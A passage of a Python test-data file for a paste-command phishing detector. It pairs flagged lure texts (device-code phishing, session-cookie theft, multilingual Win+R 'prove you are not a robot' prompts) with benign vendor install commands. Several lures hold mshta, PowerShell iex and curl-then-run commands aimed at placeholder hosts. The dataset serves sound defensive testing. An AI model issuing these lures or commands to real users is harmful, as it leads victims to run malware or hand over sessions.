        "Authorization code (paste it into the verification window to finish):\n4/1AVMBsJhZ8xQ2m9TqLcR7wN3vK5pY1bF6gD0eS4aU",
    ),
    (
        "device-code-microsoft-es",
        "https://factura.documentos-compartidos.invalid/",
        "Para ver la factura compartida, abra https://microsoft.com/devicelogin e introduzca el código KX7P9QDM. Después vuelva a esta página.",
    ),
    (
        "device-code-microsoft-teams-chat",
        "https://teams.chat-meeting-invite.test/",
        "Hi, this is IT Service Desk. To join the security meeting please go to https://microsoft.com/devicelogin and enter code HJ4R2W9T. It expires in 15 minutes.",
    ),
    (
        "device-code-aws-sso",
        "https://access.cloud-billing-review.invalid/",
        "AWS billing review: open https://device.sso.us-east-1.amazonaws.com/ and approve code QZTW-MKPL to grant the auditor read access.",
    ),
    (
        "session-cookie-paste-back",
        "https://support.creator-account-appeal.test/",
        "To restore your account, open DevTools (F12) → Application → Cookies, copy the value of 'sessionid' and paste it in the appeal form together with this reference: APPEAL-55120.",
    ),
]
for technique, source, text in NAMED:
    lure(technique, UNK, source, text, expect="flagged", platform="any")

# --- Multi-line instructions in other languages --------------------------------------------------------

lure(
    "instructions-tr-winr",
    UNK,
    "https://www.kuafor-salonu.example/randevu",
    "Robot olmadığınızı doğrulayın:\n1. Windows + R tuşlarına basın\n2. Ctrl + V ile yapıştırın\n3. Enter'a basın\n\nmshta https://dogrula-tr.invalid/d.hta  # Doğrulama kimliği 8812",
)
lure(
    "instructions-zh-winr",
    UNK,
    "https://www.chaguan-yuding.example/",
    '人机验证步骤：\n1. 按下 Windows + R\n2. 按 Ctrl + V 粘贴\n3. 按回车键完成验证\n\npowershell -w h -c "iwr https://yanzheng-zh.invalid/v -UseB|iex"',
)
lure(
    "instructions-ko-winr",
    UNK,
    "https://www.kimchi-cooking-class.example/",
    "보안 확인:\n1. Windows 키 + R 을 누르세요\n2. Ctrl + V 로 붙여넣으세요\n3. Enter 를 누르세요\n\ncmd /c curl -s https://hwagin-ko.test/k.bat -o %TEMP%\\k.bat & %TEMP%\\k.bat",
)
lure(
    "instructions-ar-winr",
    UNK,
    "https://www.matjar-al-oud.example/",
    'للتحقق من أنك لست روبوتاً:\n1. اضغط على Windows + R\n2. الصق الأمر بالضغط على Ctrl + V\n3. اضغط Enter\n\npowershell -c "iex(irm https://tahaqquq-ar.invalid/a)"',
)
lure(
    "instructions-pt-explorer",
    UNK,
    "https://www.imobiliaria-litoral.example/contrato",
    "Para abrir o contrato:\n1. Pressione Windows + E\n2. Clique na barra de endereço e cole (Ctrl + V)\n3. Pressione Enter\n\nmshta https://contrato-pt.test/c.hta"
    + pad(40)
    + "# C:\\Contratos\\Contrato-2026.pdf",
)

# ----------------------------------------------------------------------------------------------
# Benign texts: (kind, target, source, text)
# ----------------------------------------------------------------------------------------------

BENIGN: list[tuple[str, str, str | None, str]] = []
OWN = "installer-own-page"


def ok(kind: str, target: str, source: str | None, text: str) -> None:
    BENIGN.append((kind, target, source, text))


def own(source: str, text: str, target: str = TERM) -> None:
    ok(OWN, target, source, text)


# --- Installers of well-known projects (not used by the earlier sets), from their own pages -------

WELL_KNOWN = [
    ("https://clickhouse.com/docs/install", "curl https://clickhouse.com/ | sh"),
    (
        "https://www.meilisearch.com/docs/learn/self_hosted/install_meilisearch_locally",
        "curl -L https://install.meilisearch.com | sh",
    ),
    (
        "https://vector.dev/docs/setup/installation/",
        "curl --proto '=https' --tlsv1.2 -sSfL https://sh.vector.dev | bash",
    ),
    (
        "https://mariadb.com/docs/server/server-management/install-and-upgrade-mariadb/installing-mariadb/binary-packages/mariadb-package-repository-setup-and-usage",
        "curl -LsS https://r.mariadb.com/downloads/mariadb_repo_setup | sudo bash",
    ),
    ("https://docs.temporal.io/cli", "curl -sSf https://temporal.download/cli.sh | sh"),
    (
        "https://docs.airbyte.com/using-airbyte/getting-started/oss-quickstart",
        "curl -LsfS https://get.airbyte.com | bash -",
    ),
    ("https://umbrel.com/umbrelos", "curl -L https://umbrel.sh | bash"),
    (
        "https://docs.chef.io/chef_install_script/",
        "curl -L https://omnitruck.chef.io/install.sh | sudo bash",
    ),
    ("https://dlang.org/download.html", "curl -fsS https://dlang.org/install.sh | bash -s dmd"),
    (
        "https://github.com/ponylang/ponyup",
        "curl --proto '=https' --tlsv1.2 -sSf https://raw.githubusercontent.com/ponylang/ponyup/latest-release/ponyup-init.sh | sh",
    ),
    (
        "https://www.moonbitlang.com/download/",
        "curl -fsSL https://cli.moonbitlang.com/install/unix.sh | bash",
    ),
    (
        "https://www.moonbitlang.com/download/#windows",
        "Set-ExecutionPolicy RemoteSigned -Scope CurrentUser; irm https://cli.moonbitlang.com/install/powershell.ps1 | iex",
    ),
    (
        "https://koka-lang.github.io/koka/doc/book.html#install",
        "curl -sSL https://github.com/koka-lang/koka/releases/latest/download/install.sh | sh",
    ),
    (
        "https://nordvpn.com/download/linux/",
        "sh <(curl -sSf https://downloads.nordcdn.com/apps/linux/install.sh)",
    ),
    (
        "https://docs.pingcap.com/tidb/stable/quick-start-with-tidb",
        "curl --proto '=https' --tlsv1.2 -sSf https://tiup-mirrors.pingcap.com/install.sh | sh",
    ),
    ("https://dgraph.io/docs/installation/download/", "curl https://get.dgraph.io -sSf | bash"),
    (
        "https://docs.nats.io/running-a-nats-service/introduction/installation",
        "curl -sf https://binaries.nats.dev/nats-io/nats-server/v2@latest | sh",
    ),
    (
        "https://skaffold.dev/docs/install/",
        "curl -Lo skaffold https://storage.googleapis.com/skaffold/releases/latest/skaffold-linux-amd64 && \\\nsudo install skaffold /usr/local/bin/",
    ),
    (
        "https://github.com/r-lib/rig#installation",
        "curl -Ls https://github.com/r-lib/rig/releases/download/latest/rig-linux-latest.tar.gz | sudo tar xz -C /usr/local",
    ),
    (
        "https://github.com/nicolargo/glances#installation",
        "curl -L https://bit.ly/glances | /bin/bash",
    ),
    (
        "https://zimfw.sh/docs/install/",
        "curl -fsSL https://raw.githubusercontent.com/zimfw/install/master/install.zsh | zsh",
    ),
    (
        "https://guix.gnu.org/manual/en/html_node/Binary-Installation.html",
        "cd /tmp\nwget https://git.savannah.gnu.org/cgit/guix.git/plain/etc/guix-install.sh\nchmod +x guix-install.sh\nsudo ./guix-install.sh",
    ),
    (
        "https://pdm-project.org/en/latest/#installation",
        "curl -sSL https://pdm-project.org/install-pdm.py | python3 -",
    ),
    (
        "https://wp-cli.org/#installing",
        "curl -O https://raw.githubusercontent.com/wp-cli/builds/gh-pages/phar/wp-cli.phar\nphp wp-cli.phar --info\nchmod +x wp-cli.phar\nsudo mv wp-cli.phar /usr/local/bin/wp",
    ),
    (
        "https://docs.saltproject.io/salt/install-guide/en/latest/topics/bootstrap.html",
        "curl -o bootstrap-salt.sh -L https://github.com/saltstack/salt-bootstrap/releases/latest/download/bootstrap-salt.sh\nsudo sh bootstrap-salt.sh -P stable 3007.1",
    ),
    (
        "https://tfswitch.warrensbox.com/Installation/",
        "curl -L https://raw.githubusercontent.com/warrensbox/terraform-switcher/master/install.sh | bash",
    ),
    (
        "https://www.infracost.io/docs/",
        "curl -fsSL https://raw.githubusercontent.com/infracost/infracost/master/scripts/install.sh | sh",
    ),
    (
        "https://steampipe.io/downloads",
        'sudo /bin/sh -c "$(curl -fsSL https://steampipe.io/install/steampipe.sh)"',
    ),
    (
        "https://powerpipe.io/downloads",
        'sudo /bin/sh -c "$(curl -fsSL https://powerpipe.io/install/powerpipe.sh)"',
    ),
    ("https://localai.io/basics/getting_started/", "curl https://localai.io/install.sh | sh"),
    ("https://ampcode.com/manual", "curl -fsSL https://ampcode.com/install.sh | bash"),
    (
        "https://docs.codecov.com/docs/codecov-uploader",
        "curl -Os https://cli.codecov.io/latest/linux/codecov\nchmod +x codecov\n./codecov --help",
    ),
    (
        "https://docs.snyk.io/snyk-cli/install-or-update-the-snyk-cli",
        "curl --compressed https://static.snyk.io/cli/latest/snyk-linux -o snyk\nchmod +x ./snyk\nmv ./snyk /usr/local/bin/",
    ),
    (
        "https://docs.fluentbit.io/manual/installation/linux/ubuntu",
        "curl https://raw.githubusercontent.com/fluent/fluent-bit/master/install.sh | sh",
    ),
    (
        "https://docs.cribl.io/stream/deploy-single-instance/",
        "curl -Lso - $(curl https://cdn.cribl.io/dl/latest-x64) | tar zxv",
    ),
    ("https://sliver.sh/docs?name=Getting+Started", "curl https://sliver.sh/install|sudo bash"),
    (
        "https://osquery.io/downloads/official",
        "export OSQUERY_KEY=1484120AC4E9F8A1A577AEEE97A80C63C9D8B80B\nsudo apt-key adv --keyserver hkps://keyserver.ubuntu.com --recv-keys $OSQUERY_KEY\nsudo add-apt-repository 'deb [arch=amd64] https://pkg.osquery.io/deb deb main'\nsudo apt-get update && sudo apt-get install osquery",
    ),
    (
        "https://falco.org/docs/setup/packages/",
        'curl -fsSL https://falco.org/repo/falcosecurity-packages.asc | \\\nsudo gpg --dearmor -o /usr/share/keyrings/falco-archive-keyring.gpg\necho "deb [signed-by=/usr/share/keyrings/falco-archive-keyring.gpg] https://download.falco.org/packages/deb stable main" | \\\nsudo tee -a /etc/apt/sources.list.d/falcosecurity.list',
    ),
    (
        "https://docs.px.dev/installing-pixie/install-schemes/cli/",
        'bash -c "$(curl -fsSL https://withpixie.ai/install.sh)"',
    ),
    (
        "https://docs.redpanda.com/current/get-started/rpk-install/",
        "curl -1sLf 'https://dl.redpanda.com/nzc4ZYQK3WRGd9sy/redpanda/cfg/setup/bash.deb.sh' | \\\nsudo -E bash && sudo apt install redpanda -y",
    ),
    (
        "https://docs.gitea.com/installation/install-from-binary",
        "wget -O gitea https://dl.gitea.com/gitea/1.23.1/gitea-1.23.1-linux-amd64\nchmod +x gitea",
    ),
    (
        "https://milvus.io/docs/install_standalone-docker.md",
        "curl -sfL https://raw.githubusercontent.com/milvus-io/milvus/master/scripts/standalone_embed.sh -o standalone_embed.sh\nbash standalone_embed.sh start",
    ),
    (
        "https://www.spotify.com/us/download/linux/",
        'curl -sS https://download.spotify.com/debian/pubkey_C85668DF69375001.gpg | sudo gpg --dearmor --yes -o /etc/apt/trusted.gpg.d/spotify.gpg\necho "deb https://repository.spotify.com stable non-free" | sudo tee /etc/apt/sources.list.d/spotify.list',
    ),
    (
        "https://krew.sigs.k8s.io/docs/user-guide/setup/install/",
        '(\n  set -x; cd "$(mktemp -d)" &&\n  OS="$(uname | tr \'[:upper:]\' \'[:lower:]\')" &&\n  ARCH="$(uname -m | sed -e \'s/x86_64/amd64/\' -e \'s/\\(arm\\)\\(64\\)\\?.*/\\1\\2/\' -e \'s/aarch64$/arm64/\')" &&\n  KREW="krew-${OS}_${ARCH}" &&\n  curl -fsSLO "https://github.com/kubernetes-sigs/krew/releases/latest/download/${KREW}.tar.gz" &&\n  tar zxvf "${KREW}.tar.gz" &&\n  ./"${KREW}" install krew\n)',
    ),
    (
        "https://docs.cilium.io/en/stable/gettingstarted/k8s-install-default/",
        "CILIUM_CLI_VERSION=$(curl -s https://raw.githubusercontent.com/cilium/cilium-cli/main/stable.txt)\nCLI_ARCH=amd64\ncurl -L --fail --remote-name-all https://github.com/cilium/cilium-cli/releases/download/${CILIUM_CLI_VERSION}/cilium-linux-${CLI_ARCH}.tar.gz{,.sha256sum}\nsha256sum --check cilium-linux-${CLI_ARCH}.tar.gz.sha256sum\nsudo tar xzvfC cilium-linux-${CLI_ARCH}.tar.gz /usr/local/bin",
    ),
    (
        "https://earthly.dev/get-earthly",
        "sudo /bin/sh -c 'wget https://github.com/earthly/earthly/releases/latest/download/earthly-linux-amd64 -O /usr/local/bin/earthly && chmod +x /usr/local/bin/earthly && /usr/local/bin/earthly bootstrap --with-autocomplete'",
    ),
    (
        "https://immich.app/docs/install/docker-compose",
        "wget -O docker-compose.yml https://github.com/immich-app/immich/releases/latest/download/docker-compose.yml\nwget -O .env https://github.com/immich-app/immich/releases/latest/download/example.env\ndocker compose up -d",
    ),
    ("https://getmic.ro/", "curl https://getmic.ro/r | sudo sh"),
    ("https://github.com/zyedidia/micro#installation", "curl https://getmic.ro | bash"),
    (
        "https://www.nextflow.io/docs/latest/install.html",
        "curl -s https://get.nextflow.io | bash\nchmod +x nextflow\nmv nextflow $HOME/.local/bin/",
    ),
    (
        "https://docs.dynatrace.com/docs/setup-and-configuration/setup-on-linux/installation/install-oneagent-on-linux",
        'wget -O Dynatrace-OneAgent-Linux.sh "https://abc12345.live.dynatrace.com/api/v1/deployment/installer/agent/unix/default/latest?arch=x86" --header="Authorization: Api-Token dt0c01.SAMPLE"\nsudo /bin/sh Dynatrace-OneAgent-Linux.sh --set-monitoring-mode=fullstack',
    ),
    (
        "https://docs.flox.dev/install-flox/",
        "curl -fsSL https://downloads.flox.dev/by-env/stable/deb/flox.x86_64-linux.deb -o flox.deb && sudo apt install ./flox.deb",
    ),
    ("https://devenv.sh/getting-started/", "nix profile install nixpkgs#devenv"),
    (
        "https://docs.openziti.io/docs/reference/tunnelers/linux/",
        "curl -sSLf https://get.openziti.io/tun/scripts/install-ubuntu.bash | bash",
    ),
    (
        "https://gofrp.org/en/docs/setup/",
        "wget https://github.com/fatedier/frp/releases/download/v0.61.1/frp_0.61.1_linux_amd64.tar.gz\ntar -xzf frp_0.61.1_linux_amd64.tar.gz",
    ),
    (
        "https://pkg.cloudflare.com/index.html",
        "sudo mkdir -p --mode=0755 /usr/share/keyrings\ncurl -fsSL https://pkg.cloudflare.com/cloudflare-main.gpg | sudo tee /usr/share/keyrings/cloudflare-main.gpg >/dev/null\necho 'deb [signed-by=/usr/share/keyrings/cloudflare-main.gpg] https://pkg.cloudflare.com/cloudflared any main' | sudo tee /etc/apt/sources.list.d/cloudflared.list",
    ),
    (
        "https://developers.cloudflare.com/cloudflare-one/connections/connect-networks/downloads/",
        "winget install --id Cloudflare.cloudflared",
    ),
    ("https://sst.dev/docs/reference/cli/", "curl -fsSL https://sst.dev/install | bash"),
    (
        "https://opentofu.org/docs/intro/install/standalone/",
        "curl --proto '=https' --tlsv1.2 -fsSL https://get.opentofu.org/install-opentofu.sh -o install-opentofu.sh\nchmod +x install-opentofu.sh\n./install-opentofu.sh --install-method standalone",
    ),
    (
        "https://docs.rancherdesktop.io/getting-started/installation/",
        "curl -s https://download.opensuse.org/repositories/isv:/Rancher:/stable/deb/Release.key | gpg --dearmor | sudo dd status=none of=/usr/share/keyrings/isv-rancher-stable-archive-keyring.gpg",
    ),
    (
        "https://podman-desktop.io/docs/installation/linux-install",
        "flatpak install --user flathub io.podman_desktop.PodmanDesktop",
    ),
    (
        "https://pyenv-win.github.io/pyenv-win/",
        'Invoke-WebRequest -UseBasicParsing -Uri "https://raw.githubusercontent.com/pyenv-win/pyenv-win/master/pyenv-win/install-pyenv-win.ps1" -OutFile "./install-pyenv-win.ps1"; &"./install-pyenv-win.ps1"',
    ),
    (
        "https://github.com/pyenv-win/pyenv-win#git-commands",
        'git clone https://github.com/pyenv-win/pyenv-win.git "$HOME\\.pyenv"',
    ),
    (
        "https://github.com/coreybutler/nvm-windows/releases",
        "winget install CoreyButler.NVMforWindows",
    ),
    (
        "https://ohmyposh.dev/docs/installation/macos",
        "brew install jandedobbeleer/oh-my-posh/oh-my-posh",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/scripting/install/install-ubuntu",
        "source /etc/os-release\nwget -q https://packages.microsoft.com/config/ubuntu/$VERSION_ID/packages-microsoft-prod.deb\nsudo dpkg -i packages-microsoft-prod.deb\nsudo apt-get update && sudo apt-get install -y powershell",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/powertoys/install",
        "winget install Microsoft.PowerToys --source winget",
    ),
    (
        "https://docs.aws.amazon.com/serverless-application-model/latest/developerguide/install-sam-cli.html",
        "wget https://github.com/aws/aws-sam-cli/releases/latest/download/aws-sam-cli-linux-x86_64.zip\nunzip aws-sam-cli-linux-x86_64.zip -d sam-installation\nsudo ./sam-installation/install",
    ),
    (
        "https://docs.aws.amazon.com/systems-manager/latest/userguide/install-plugin-debian-and-ubuntu.html",
        'curl "https://s3.amazonaws.com/session-manager-downloads/plugin/latest/ubuntu_64bit/session-manager-plugin.deb" -o "session-manager-plugin.deb"\nsudo dpkg -i session-manager-plugin.deb',
    ),
    (
        "https://cloud.google.com/sdk/docs/install#deb",
        'curl https://packages.cloud.google.com/apt/doc/apt-key.gpg | sudo gpg --dearmor -o /usr/share/keyrings/cloud.google.gpg\necho "deb [signed-by=/usr/share/keyrings/cloud.google.gpg] https://packages.cloud.google.com/apt cloud-sdk main" | sudo tee -a /etc/apt/sources.list.d/google-cloud-sdk.list',
    ),
    (
        "https://learn.microsoft.com/en-us/sql/linux/quickstart-install-connect-ubuntu",
        "curl -fsSL https://packages.microsoft.com/keys/microsoft.asc | sudo gpg --dearmor -o /usr/share/keyrings/microsoft-prod.gpg\ncurl -fsSL https://packages.microsoft.com/config/ubuntu/22.04/mssql-server-2022.list | sudo tee /etc/apt/sources.list.d/mssql-server-2022.list",
    ),
    (
        "https://docs.docker.com/desktop/setup/install/mac-install/",
        "sudo hdiutil attach Docker.dmg\nsudo /Volumes/Docker/Docker.app/Contents/MacOS/install\nsudo hdiutil detach /Volumes/Docker",
    ),
    ("https://www.warp.dev/download", "brew install --cask warp"),
    ("https://ghostty.org/download", "brew install --cask ghostty"),
    ("https://www.raycast.com/", "brew install --cask raycast"),
    ("https://obsidian.md/download", "flatpak install flathub md.obsidian.Obsidian"),
    ("https://www.torproject.org/download/", "sudo apt install torbrowser-launcher"),
    (
        "https://keybase.io/docs/the_app/install_linux",
        "curl --remote-name https://prerelease.keybase.io/keybase_amd64.deb\nsudo apt install ./keybase_amd64.deb\nrun_keybase",
    ),
    (
        "https://protonvpn.com/support/official-linux-vpn-ubuntu/",
        "wget https://repo.protonvpn.com/debian/dists/stable/main/binary-all/protonvpn-stable-release_1.0.8_all.deb\nsudo dpkg -i ./protonvpn-stable-release_1.0.8_all.deb && sudo apt update",
    ),
    (
        "https://mullvad.net/en/help/install-mullvad-app-linux",
        'sudo curl -fsSLo /usr/share/keyrings/mullvad-keyring.asc https://repository.mullvad.net/deb/mullvad-keyring.asc\necho "deb [signed-by=/usr/share/keyrings/mullvad-keyring.asc arch=$( dpkg --print-architecture )] https://repository.mullvad.net/deb/stable stable main" | sudo tee /etc/apt/sources.list.d/mullvad.list',
    ),
    (
        "https://www.puppet.com/docs/puppet/8/install_puppet.html",
        "wget https://apt.puppet.com/puppet8-release-jammy.deb\nsudo dpkg -i puppet8-release-jammy.deb\nsudo apt-get update",
    ),
    (
        "https://www.zabbix.com/download",
        "wget https://repo.zabbix.com/zabbix/7.0/ubuntu/pool/main/z/zabbix-release/zabbix-release_latest_7.0+ubuntu24.04_all.deb\nsudo dpkg -i zabbix-release_latest_7.0+ubuntu24.04_all.deb\nsudo apt update",
    ),
    (
        "https://www.influxdata.com/downloads/",
        'curl --silent --location -O https://repos.influxdata.com/influxdata-archive.key\necho "943666881a1b8d9b849b74caebf02d3465d6beb716510d86a39f6c8e8dac7515  influxdata-archive.key" | sha256sum -c - && cat influxdata-archive.key | gpg --dearmor | sudo tee /etc/apt/trusted.gpg.d/influxdata-archive.gpg > /dev/null',
    ),
    (
        "https://neo4j.com/docs/operations-manual/current/installation/linux/debian/",
        "wget -O - https://debian.neo4j.com/neotechnology.gpg.key | sudo gpg --dearmor -o /etc/apt/keyrings/neotechnology.gpg\necho 'deb [signed-by=/etc/apt/keyrings/neotechnology.gpg] https://debian.neo4j.com stable latest' | sudo tee -a /etc/apt/sources.list.d/neo4j.list",
    ),
    (
        "https://www.cockroachlabs.com/docs/stable/install-cockroachdb-linux",
        "curl https://binaries.cockroachdb.com/cockroach-v24.3.0.linux-amd64.tgz | tar -xz && sudo cp -i cockroach-v24.3.0.linux-amd64/cockroach /usr/local/bin/",
    ),
    (
        "https://questdb.com/download/",
        "curl -L https://github.com/questdb/questdb/releases/download/8.2.1/questdb-8.2.1-rt-linux-x86-64.tar.gz -o questdb.tar.gz\ntar -xzf questdb.tar.gz",
    ),
    (
        "https://typesense.org/docs/guide/install-typesense.html",
        "curl -O https://dl.typesense.org/releases/27.1/typesense-server-27.1-amd64.deb\nsudo apt install ./typesense-server-27.1-amd64.deb",
    ),
    (
        "https://www.emqx.com/en/downloads-and-install/broker",
        "curl -s https://assets.emqx.com/scripts/install-emqx-deb.sh | sudo bash\nsudo apt-get install emqx",
    ),
    (
        "https://prometheus.io/download/",
        "wget https://github.com/prometheus/prometheus/releases/download/v3.0.1/prometheus-3.0.1.linux-amd64.tar.gz\ntar xvfz prometheus-*.tar.gz",
    ),
    (
        "https://signoz.io/docs/install/docker/",
        "git clone -b main https://github.com/SigNoz/signoz.git && cd signoz/deploy/\n./install.sh",
    ),
    (
        "https://github.com/louislam/uptime-kuma#-how-to-install",
        "docker run -d --restart=always -p 3001:3001 -v uptime-kuma:/app/data --name uptime-kuma louislam/uptime-kuma:1",
    ),
    (
        "https://docs.ghost.org/install/ubuntu",
        "sudo npm install ghost-cli@latest -g\nghost install",
    ),
    (
        "https://caprover.com/docs/get-started.html",
        "docker run -p 80:80 -p 443:443 -p 3000:3000 -e ACCEPTED_TERMS=true -v /var/run/docker.sock:/var/run/docker.sock -v /captain:/captain caprover/caprover",
    ),
    (
        "https://docs.mattermost.com/install/install-ubuntu.html",
        "curl -o- https://deb.packages.mattermost.com/repo-setup.sh | sudo bash -s mattermost",
    ),
    (
        "https://zulip.readthedocs.io/en/stable/production/install.html",
        "cd $(mktemp -d)\ncurl -fLO https://download.zulip.com/server/zulip-server-latest.tar.gz\ntar -xf zulip-server-latest.tar.gz",
    ),
    ("https://docs.rocket.chat/docs/deploy-with-snaps", "sudo snap install rocketchat-server"),
    (
        "https://www.home-assistant.io/installation/linux",
        "docker run -d --name homeassistant --privileged --restart=unless-stopped -e TZ=Europe/Berlin -v /opt/ha:/config -v /run/dbus:/run/dbus:ro --network=host ghcr.io/home-assistant/home-assistant:stable",
    ),
    (
        "https://www.navidrome.org/docs/installation/linux/",
        "wget https://github.com/navidrome/navidrome/releases/download/v0.54.3/navidrome_0.54.3_linux_amd64.deb\nsudo apt install ./navidrome_0.54.3_linux_amd64.deb",
    ),
    ("https://docs.frigate.video/frigate/installation", "docker compose up -d frigate"),
    (
        "https://www.plex.tv/media-server-downloads/",
        "curl https://downloads.plex.tv/plex-keys/PlexSign.key | sudo gpg --dearmor -o /usr/share/keyrings/plex.gpg",
    ),
    (
        "https://docs.nginx.com/nginx/admin-guide/installing-nginx/installing-nginx-open-source/",
        "curl https://nginx.org/keys/nginx_signing.key | gpg --dearmor \\\n    | sudo tee /usr/share/keyrings/nginx-archive-keyring.gpg >/dev/null",
    ),
    (
        "https://doc.traefik.io/traefik/getting-started/install-traefik/",
        "docker run -d -p 8080:8080 -p 80:80 -v $PWD/traefik.yml:/etc/traefik/traefik.yml -v /var/run/docker.sock:/var/run/docker.sock traefik:v3.2",
    ),
    (
        "https://www.haproxy.com/documentation/haproxy-configuration-tutorials/installation/",
        "sudo add-apt-repository ppa:vbernat/haproxy-3.0 -y && sudo apt install haproxy=3.0.*",
    ),
    (
        "https://mkcert.dev/",
        'curl -JLO "https://dl.filippo.io/mkcert/latest?for=linux/arm64"\nchmod +x mkcert-v*-linux-arm64\nsudo mv mkcert-v*-linux-arm64 /usr/local/bin/mkcert',
    ),
    (
        "https://github.com/FiloSottile/mkcert#macos",
        "brew install mkcert\nbrew install nss # if you use Firefox\nmkcert -install",
    ),
    (
        "https://velero.io/docs/main/basic-install/",
        "wget https://github.com/vmware-tanzu/velero/releases/download/v1.15.0/velero-v1.15.0-linux-amd64.tar.gz\ntar -xvf velero-v1.15.0-linux-amd64.tar.gz",
    ),
    (
        "https://www.openpolicyagent.org/docs/latest/#running-opa",
        "curl -L -o opa https://openpolicyagent.org/downloads/latest/opa_linux_amd64_static\nchmod 755 ./opa",
    ),
    (
        "https://kubevirt.io/user-guide/user_workloads/virtctl_client_tool/",
        "VERSION=$(kubectl get kubevirt.kubevirt.io/kubevirt -n kubevirt -o=jsonpath=\"{.status.observedKubeVirtVersion}\")\nARCH=$(uname -s | tr A-Z a-z)-$(uname -m | sed 's/x86_64/amd64/')\ncurl -L -o virtctl https://github.com/kubevirt/kubevirt/releases/download/${VERSION}/virtctl-${VERSION}-${ARCH}\nchmod +x virtctl",
    ),
    (
        "https://telepresence.io/docs/install/client",
        "sudo curl -fL https://github.com/telepresenceio/telepresence/releases/latest/download/telepresence-linux-amd64 -o /usr/local/bin/telepresence\nsudo chmod a+x /usr/local/bin/telepresence",
    ),
    (
        "https://www.devspace.sh/docs/getting-started/installation",
        'curl -L -o devspace "https://github.com/loft-sh/devspace/releases/latest/download/devspace-linux-amd64" && sudo install -c -m 0755 devspace /usr/local/bin',
    ),
    (
        "https://docs.zrok.io/docs/guides/install/linux/",
        "curl -sSLf https://get.openziti.io/install.bash | sudo bash -s zrok",
    ),
    (
        "https://headscale.net/stable/setup/install/official/",
        "wget --output-document=headscale.deb https://github.com/juanfont/headscale/releases/download/v0.23.0/headscale_0.23.0_linux_amd64.deb\nsudo apt install ./headscale.deb",
    ),
    (
        "https://nebula.defined.net/docs/guides/quick-start/",
        "curl -LO https://github.com/slackhq/nebula/releases/download/v1.9.5/nebula-linux-amd64.tar.gz\ntar xzf nebula-linux-amd64.tar.gz",
    ),
    (
        "https://www.netmaker.io/install",
        "sudo wget -qO /root/nm-quick.sh https://raw.githubusercontent.com/gravitl/netmaker/master/scripts/nm-quick.sh && sudo chmod +x /root/nm-quick.sh && sudo /root/nm-quick.sh",
    ),
    (
        "https://docs.pritunl.com/docs/installation",
        "sudo apt --assume-yes install gnupg\ngpg --keyserver hkp://keyserver.ubuntu.com --recv-keys 7568D9BB55FF9E5287D586017AE645C0CF8E292A\ngpg --armor --export 7568D9BB55FF9E5287D586017AE645C0CF8E292A | sudo tee /etc/apt/trusted.gpg.d/pritunl.asc",
    ),
    (
        "https://cisofy.com/documentation/lynis/get-started/",
        "git clone https://github.com/CISOfy/lynis\ncd lynis && ./lynis audit system",
    ),
    (
        "https://greenbone.github.io/docs/latest/22.4/container/",
        "curl -f -O https://greenbone.github.io/docs/latest/_static/docker-compose.yml && docker compose -f docker-compose.yml pull",
    ),
    (
        "https://docs.velociraptor.app/docs/deployment/",
        "wget https://github.com/Velocidex/velociraptor/releases/download/v0.73/velociraptor-v0.73.3-linux-amd64\nchmod +x velociraptor-v0.73.3-linux-amd64",
    ),
    (
        "https://github.com/gitleaks/gitleaks#installing",
        'docker run -v ${path_to_host_folder_to_scan}:/path zricethezav/gitleaks:latest detect --source="/path"',
    ),
    (
        "https://google.github.io/osv-scanner/installation/",
        "go install github.com/google/osv-scanner/v2/cmd/osv-scanner@latest",
    ),
    (
        "https://docs.sigstore.dev/cosign/system_config/installation/",
        'curl -O -L "https://github.com/sigstore/cosign/releases/latest/download/cosign-linux-amd64"\nsudo mv cosign-linux-amd64 /usr/local/bin/cosign\nsudo chmod +x /usr/local/bin/cosign',
    ),
    ("https://semgrep.dev/docs/getting-started/cli", "python3 -m pip install semgrep"),
    ("https://checkov.io/2.Basics/Installing%20Checkov.html", "pip3 install checkov"),
    (
        "https://docs.projectdiscovery.io/tools/nuclei/install",
        "go install -v github.com/projectdiscovery/nuclei/v3/cmd/nuclei@latest",
    ),
    ("https://github.com/ffuf/ffuf#installation", "go install github.com/ffuf/ffuf/v2@latest"),
    ("https://topgrade-rs.github.io/", "cargo install topgrade"),
    (
        "https://yadm.io/docs/install",
        "curl -fLo /usr/local/bin/yadm https://github.com/yadm-dev/yadm/raw/master/yadm && chmod a+x /usr/local/bin/yadm",
    ),
    (
        "https://github.com/tmux-plugins/tpm#installation",
        "git clone --depth 1 https://github.com/tmux-plugins/tpm ~/.config/tmux/plugins/tpm",
    ),
    (
        "https://github.com/gpakosz/.tmux#installation",
        "cd\ngit clone --single-branch https://github.com/gpakosz/.tmux.git\nln -s -f .tmux/.tmux.conf\ncp .tmux/.tmux.conf.local .",
    ),
    (
        "https://www.lazyvim.org/installation",
        "git clone https://github.com/LazyVim/starter ~/.config/nvim\nrm -rf ~/.config/nvim/.git\nnvim",
    ),
    (
        "https://nvchad.com/docs/quickstart/install",
        "git clone https://github.com/NvChad/starter ~/.config/nvim && nvim",
    ),
    (
        "https://docs.astronvim.com/",
        "git clone --depth 1 https://github.com/AstroNvim/template ~/.config/nvim\nrm -rf ~/.config/nvim/.git\nnvim",
    ),
    (
        "https://github.com/doomemacs/doomemacs#install",
        "git clone --depth 1 https://github.com/doomemacs/doomemacs ~/.config/emacs\n~/.config/emacs/bin/doom install",
    ),
    (
        "https://github.com/tj/git-extras/blob/main/Installation.md",
        "curl -sSL https://raw.githubusercontent.com/tj/git-extras/main/install.sh | sudo bash /dev/stdin",
    ),
    (
        "https://github.com/asdf-vm/asdf/releases",
        "go install github.com/asdf-vm/asdf/cmd/asdf@v0.16.0",
    ),
    (
        "https://github.com/sorin-ionescu/prezto#installation",
        'git clone --recursive https://github.com/sorin-ionescu/prezto.git "${ZDOTDIR:-$HOME}/.zprezto"',
    ),
    (
        "https://spaceship-prompt.sh/getting-started/",
        'git clone https://github.com/spaceship-prompt/spaceship-prompt.git "$ZSH_CUSTOM/themes/spaceship-prompt" --depth=1',
    ),
    (
        "https://github.com/romkatv/powerlevel10k#manual",
        "git clone --depth=1 https://github.com/romkatv/powerlevel10k.git ~/powerlevel10k\necho 'source ~/powerlevel10k/powerlevel10k.zsh-theme' >>~/.zshrc",
    ),
    (
        "https://www.macports.org/install.php",
        "curl -O https://distfiles.macports.org/MacPorts/MacPorts-2.10.5.tar.bz2\ntar xf MacPorts-2.10.5.tar.bz2\ncd MacPorts-2.10.5/ && ./configure && make && sudo make install",
    ),
    (
        "https://tailwindcss.com/blog/standalone-cli",
